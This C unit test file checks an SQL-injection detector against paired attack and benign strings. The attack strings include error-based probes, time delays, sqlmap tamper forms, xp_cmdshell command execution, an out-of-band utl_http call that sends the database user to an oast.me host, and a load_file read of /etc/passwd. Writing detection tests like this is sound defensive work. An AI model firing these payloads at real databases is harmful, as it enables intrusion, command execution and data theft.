/* test_payload_r9s.c - issue 20, red team s (SQL injection, the ninth):
 * the rows its table found. Geometry constructors are error-based only
 * around a query (WKT's coordinates are data); a delay function is SQL's
 * only where SQL could call it (not after a program's word or arrow, not
 * before IN or BETWEEN that SQL would not finish); ZAP's sort probe with
 * its statement ended twice or the column quoted. Attacks draw sqli as a
 * query value and a form body and reach the kill line; benign rows draw
 * nothing (payload_rt_table.h). */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <string.h>

#include "collector/detect/payload.h"

#include "tests/unit/payload_rt_table.h"

#define S PAYLOAD_SQLI
#define N PAYLOAD_NONE

/* polygon((select ..)) leaks in its error; POLYGON((0 0,1 0,1 1,0 0)) is a shape */
static void test_geometry_needs_a_query(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"polygon((select*from(select*from(select@@version)f)x))", S},
		{"GeometryCollection((select*from(select*from(select@@version)f)x))", S},
		{"1' and multipoint((select*from(select*from(select user())a)b))-- -", S},
		{"linestring((select*from(select*from(select database())a)b))", S},
		{"polygon(0 0,10 0,10 10,0 0)", N},
		{"GEOMETRYCOLLECTION(POINT(4 6),LINESTRING(4 6,7 10))", N},
		{"LINESTRING(0 0, 1 1)", N},
		{"MULTIPOINT((10 40), (40 30))", N},
		{"POLYGON((35 10, 45 45, 15 40, 10 20, 35 10),(20 30, 35 35, 30 20, 20 30))", N},
	};
	rt_run_kill("geometry", S, t, sizeof(t) / sizeof(t[0]));
}

/* sleep(5) where SQL calls it, not in a program's line or a sentence */
static void test_sleep_where_sql_calls_it(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"sleep(5)", S},
		{"sleep(5)#", S},
		{"1;do sleep(5)#", S},
		{"1 div sleep(5)", S},
		{"1 binary sleep(5)", S},
		{"sleep(5) and 1=1", S},
		{"1)) or sleep(5) in (1)-- -", S},
		{"1 and sleep(5) between 0 and 1", S},
		{"await sleep(500)", N},
		{"setTimeout(() => sleep(1000), 5)", N},
		{"sleep(2) between retries", N},
		{"sleep(5) in bash script", N},
		{"const wait = () => sleep(250);", N},
		{"then yield sleep(100)", N},
	};
	rt_run_kill("sleep", S, t, sizeof(t) / sizeof(t[0]));
}

/* ZAP's ORDER BY probe, its statement ended twice or its column quoted */
static void test_sort_probe_evasions(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"name ASC;;-- ", S},
		{"\"name\" ASC;-- ", S},
		{"`name` DESC-- ", S},
		{"name ASC;;;#", S},
		{"name ASC; -- sorted", N},
		{"\"name\" ASC", N},
	};
	rt_run_kill("sort", S, t, sizeof(t) / sizeof(t[0]));
}

/* exp(~(select ..)) and exp(710) overflow; exp(1) and exp(-x^2) are math.
 * A delay before IS must be SQL's IS NULL/NOT/TRUE/FALSE; a procedure's
 * name in a sentence is not a call */
static void test_calls_in_prose(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"exp(~(select*from(select user())x))", S},
		{"1 and exp(~(select*from(select user())x))", S},
		{"1 and exp(710)", S},
		{"pg_sleep(5) is null", S},
		{"xp_cmdshell 'whoami'", S},
		{"1;xp_cmdshell 'net user'--", S},
		{"1;exec master..xp_cmdshell 'ping x.oast.me'--", S},
		{"exp(1) = 2.71828", N},
		{"exp(-x^2)", N},
		{"log(x) + exp(y)", N},
		{"pg_sleep(1) is too long", N},
		{"benchmark(1000) in Go", N},
		{"xp_cmdshell is disabled by default", N},
		{"sp_executesql vs EXEC for dynamic sql performance", N},
		{"1' and 1=utl_http.request('http://x.oast.me/'||(select user from dual))--", S},
		{"' || utl_inaddr.get_host_address((select user from dual)) || '", S},
		{"1 and 1=dbms_pipe.receive_message('a',5)", S},
		{"1' and load_file('/etc/passwd')#", S},
		{"axios.request(config)", N},
		{"request(url, callback)", N},
		{"$this->request('post')", N},
		{"b.benchmark(1000)", N},
		{"json_keys(obj)", N},
		{"load_file(path)", N},
	};
	rt_run_kill("prose calls", S, t, sizeof(t) / sizeof(t[0]));
}

/* MySQL's BIGINT overflow as an error probe: abs() of the least BIGINT,
 * ~0 or the greatest BIGINT plus one after a boolean; a 19-digit id
 * alone is data */
static void test_bigint_overflow(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"abs(-9223372036854775808)", S},
		{"1 and abs(-9223372036854775808)", S},
		{"1 and ~0*2", S},
		{"1' and 18446744073709551615*2-- -", S},
		{"1) or ~0*2-- -", S},
		{"1729561836451938304", N},
		{"abs(-5)", N},
		{"id 1729561836451938304 and 1729561836451938305", N},
		{"~0 + 1", N},
	};
	rt_run_kill("bigint", S, t, sizeof(t) / sizeof(t[0]));
}

/* strings built from character codes (CHAR(83)+CHAR(69)+..., CHR(113)||
 * CHR(118)||..., CONCAT(CHAR(..),..)): SQL that hides its text; two codes
 * are a line break in a T-SQL answer */
static void test_char_code_strings(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"CHAR(83)||CHAR(69)||CHAR(76)||CHAR(69)||CHAR(67)||CHAR(84)", S},
		{"CHR(113)||CHR(118)||CHR(112)", S},
		{"CONCAT(CHAR(113),CHAR(118),CHAR(112))", S},
		{"' || char(97) || char(100) || char(109) || '", S},
		{"CHAR(13)+CHAR(10)", N},
		{"=A1&CHAR(10)&B1&CHAR(10)&C1", N},
		{"char(10) char(13) char(9) are whitespace", N},
	};
	rt_run_kill("char codes", S, t, sizeof(t) / sizeof(t[0]));
}

/* a catalog's dotted name opening a title of plain words is a docs
 * page's search, not a query's table */
static void test_catalog_title(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"information_schema.tables", S},
		{"information_schema.tables where 1=1", S},
		{"1 union select table_name from information_schema.tables", S},
		{"pg_catalog.pg_tables--", S},
		{"INFORMATION_SCHEMA.TABLES documentation", N},
		{"information_schema.columns view reference", N},
	};
	rt_run_kill("catalog", S, t, sizeof(t) / sizeof(t[0]));
}

/* sqlmap's scientific tamper: " 1.e" before ( ) , that MySQL reads as
 * nothing; a version or a float in prose is not it */
static void test_scientific_tamper(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"1 AND ORD 1.e(MID((CURRENT_USER 1.e( 1.e) 1.e) 1.e,7 1.e,1 1.e) 1.e)>1", S},
		{"zzpi 1.e) AND SLEEP 1.e(5 1.e)#", S},
		{"abc 1.e)/**/AND/**/ELT 1.e(8787=8787 1.e,3660 1.e)#", S},
		{"2737 1.e) anD 5264= 1.e(seLEct 5264 from Pg_SlEEp 1.e(5 1.e) 1.e) AND  1.e(8026=8026", S},
		{"-2187' 1.e) ANd ExtRAcTvALuE 1.e(1109 1.e,concat 1.e(0x5c 1.e,0x717a7871 1.e, 1.e(SelECT  1.e(ELt "
		 "1.e(1109=1109 1.e,1 1.e) 1.e) 1.e) 1.e,0x717a7871 1.e) 1.e)-- -", S},
		{"version 1.e(beta) and 2.e(rc)", N},
		{"score 1.e) 2.e) 3.e) options", N},
	};
	rt_run_kill("scientific", S, t, sizeof(t) / sizeof(t[0]));
}

/* a spreadsheet formula's quotes are its own when no word is in them */
static void test_formula_quotes(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"=COUNTIF(B2:B100,\"<>\")", N},
		{"=SUMIF(A:A,\"<>\",B:B)", N},
		{"=COUNTIFS(A:A,\"<>\",B:B,\">=\"&D1)", N},
		{"=A(\" or sleep(5) or \")", S},
		{"=IF(1=1,\"x\") or 1=1-- -", S},
	};
	rt_run("formula", t, sizeof(t) / sizeof(t[0]));
}

/* a word value, AND, two random numbers compared (sqlmap's tokens after a
 * string value no quote closes); small numbers are prose */
static void test_word_then_random_tokens(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"abc AND 1221>1217", S},
		{"ZNkCy#K\nAND#K\n1221>1217", S},
		{"qwerty OR 8841<9012-- -", S},
		{"cats AND 5>3", N},
		{"size 10 AND 12>8", N},
		{"models AND 2000>1990 only", N},
		{"abc HAVING ASCII(SUBSTRING(CURRENT_USER(),1,1))>84-- x", S},
		{"abc WHERE ORD(MID((SELECT user()),1,1))>64", S},
		{"fun having count(x) > 5", N},
		{"groups having max(score) > 10 only", N},
	};
	rt_run_kill("word tokens", S, t, sizeof(t) / sizeof(t[0]));
}

/* '+' is a blank in a query string: these reach SQL as a form field
 * (the '+' sent as %2B) */
static void test_plus_joined_in_a_form(void **st)
{
	(void)st;
	static const char *const a[] = {
		"CHAR(83)+CHAR(69)+CHAR(76)+CHAR(69)+CHAR(67)+CHAR(84)",
		"1' and 18446744073709551615+1-- -",
		"1 and ~0+1",
		"' + char(97) + char(100) + char(109) + '",
	};
	int low = 0;

	for (size_t i = 0; i < sizeof(a) / sizeof(a[0]); i++)
		if (rt_best(a[i], 1, S) < 60) {
			low++;
			fprintf(stderr, "  FAIL form below the kill line: %s\n", a[i]);
		}
	assert_int_equal(low, 0);
	assert_int_equal(rt_best("CHAR(13)+CHAR(10)", 1, PAYLOAD__COUNT), 0);
}

/* a string closed and an empty one opened: 8616' ' reads '8616' '' */
static void test_blank_string_probe(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"8616' '", S},
		{"1044'   '", S},
		{"123\" \"", N},
		{"Y' '", N},
		{"5' '6", N},
		{"Rock 'n' roll", N},
	};
	rt_run_kill("blank string", S, t, sizeof(t) / sizeof(t[0]));
	/* ' ' alone: found, under the kill line */
	assert_int_equal(rt_best("' '", 0, S), 55);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_geometry_needs_a_query),
		cmocka_unit_test(test_sleep_where_sql_calls_it),
		cmocka_unit_test(test_sort_probe_evasions),
		cmocka_unit_test(test_calls_in_prose),
		cmocka_unit_test(test_bigint_overflow),
		cmocka_unit_test(test_char_code_strings),
		cmocka_unit_test(test_blank_string_probe),
		cmocka_unit_test(test_plus_joined_in_a_form),
		cmocka_unit_test(test_catalog_title),
		cmocka_unit_test(test_scientific_tamper),
		cmocka_unit_test(test_formula_quotes),
		cmocka_unit_test(test_word_then_random_tokens),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
